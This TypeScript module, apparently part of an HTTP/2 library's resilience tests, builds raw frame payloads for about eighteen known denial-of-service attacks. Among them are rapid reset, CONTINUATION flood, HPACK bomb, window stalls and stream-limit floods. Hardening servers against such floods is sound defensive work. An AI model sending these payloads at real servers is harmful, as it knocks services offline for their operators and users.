import { encodeHeaders } from "@kratosjs/h2";
import { type Frame, frameBytes, types, word } from "../h2/frame.ts";

/** What one connection of an attacker does, again and again as soon as it is refused. */
export interface Attack {
  readonly name: string;
  /** All that is sent behind the preface, but for `cut`. */
  readonly bytes: () => Buffer;
  /** SETTINGS_INITIAL_WINDOW_SIZE of the attacker. @default {65535} */
  readonly windowBytes?: number;
  /** Sends so many bytes of the preface alone. @default the whole preface */
  readonly cut?: number;
  /** Sent again for each DATA frame that comes. @default nothing */
  readonly reply?: Buffer;
  /** Whether it stops reading what is answered. @default {false} */
  readonly deaf?: boolean;
  /** Milliseconds after which it begins anew although nobody refused it. @default never */
  readonly againMs?: number;
}

const block = (method: string, path: string): Buffer =>
  Buffer.from(
    encodeHeaders([":method", method, ":scheme", "http", ":path", path, ":authority", "a"]).bytes,
  );
const get = block("GET", "/");
const held = block("POST", "/");
const large = block("GET", "/large");

const make = (type: number, id: number, parts: Partial<Frame> = {}): Buffer =>
  frameBytes({ type, id, flags: 0, payload: Buffer.alloc(0), ...parts });
const headers = (at: number, payload: Buffer, flags = 5): Buffer =>
  make(types.headers, at * 2 + 1, { payload, flags });
const many =
  (frame: (at: number) => Buffer, options: { count?: number; before?: Buffer } = {}) =>
  (): Buffer =>
    Buffer.concat([
      options.before ?? Buffer.alloc(0),
      ...Array.from({ length: options.count ?? 3000 }, (_, at) => frame(at)),
    ]);
const open = headers(0, held, 4);
const ping = { payload: Buffer.alloc(8) };

/** One of each kind. */
export const attacks: readonly Attack[] = [
  {
    name: "rapid reset",
    bytes: many((at) =>
      Buffer.concat([headers(at, held), make(types.rstStream, at * 2 + 1, { payload: word(8) })]),
    ),
  },
  {
    name: "made-you-reset",
    bytes: many((at) => Buffer.concat([headers(at, held), headers(at, get)])),
  },
  {
    name: "CONTINUATION",
    bytes: many(() => make(types.continuation, 1, { payload: Buffer.from("a") }), {
      before: headers(0, get, 1),
    }),
  },
  { name: "SETTINGS", bytes: many(() => make(types.settings, 0)) },
  { name: "PING", bytes: many(() => make(types.ping, 0, ping)) },
  {
    name: "PRIORITY",
    bytes: many((at) => make(types.priority, at * 2 + 1, { payload: Buffer.alloc(5) })),
  },
  {
    name: "WINDOW_UPDATE",
    bytes: many(() => make(types.windowUpdate, 0, { payload: word(1) })),
  },
  { name: "empty DATA", bytes: many(() => make(types.data, 1), { before: open }) },
  { name: "empty HEADERS", bytes: many((at) => headers(at, Buffer.alloc(0))) },
  {
    name: "HPACK bomb",
    bytes: many((at) => headers(at + 1, Buffer.concat([get, Buffer.alloc(16_000, 0xbe)])), {
      count: 40,
      before: headers(0, bombEntry()),
    }),
  },
  {
    name: "HPACK table thrash",
    bytes: many((at) => headers(at, thrash(at))),
    againMs: 20,
  },
  {
    name: "zero-window stall",
    bytes: many((at) => headers(at, large), { count: 100 }),
    windowBytes: 0,
  },
  {
    name: "one-byte-window stall",
    bytes: () => headers(0, large),
    windowBytes: 1,
    reply: make(types.windowUpdate, 1, { payload: word(1) }),
  },
  { name: "slow preface", bytes: () => Buffer.alloc(0), cut: 10 },
  { name: "slow headers", bytes: () => headers(0, get.subarray(0, 2), 1) },
  {
    name: "huge padding",
    bytes: many(
      () =>
        make(types.data, 1, {
          flags: 8,
          payload: Buffer.concat([Buffer.from([255, 1]), Buffer.alloc(255)]),
        }),
      { before: open },
    ),
    againMs: 20,
  },
  {
    name: "streams beyond the limit",
    bytes: many((at) => headers(at, held), { count: 4100 }),
  },
  {
    name: "answers that are not read",
    bytes: many((at) => headers(at, large), {
      count: 300,
      before: make(types.windowUpdate, 0, { payload: word(0x7fff_0000) }),
    }),
    windowBytes: 0x7fff_ffff,
    deaf: true,
  },
];

/** Fills the table with one entry of 3.9 kB. */
function bombEntry(): Buffer {
  const head = Buffer.from([0x40, 6, ...Buffer.from("x-bomb"), 0x7f, 0xbd, 0x1d]);
  return Buffer.concat([get, head, Buffer.alloc(3900, 0x61)]);
}

/** Empties the table, makes it large again and puts in an entry of its own. */
function thrash(at: number): Buffer {
  const text = Buffer.from(String(1000 + at));
  return Buffer.concat([
    Buffer.from([0x20, 0x3f, 0xe1, 0x1f]),
    get,
    Buffer.from([0x40, 4, ...text, 4, ...text]),
  ]);
}
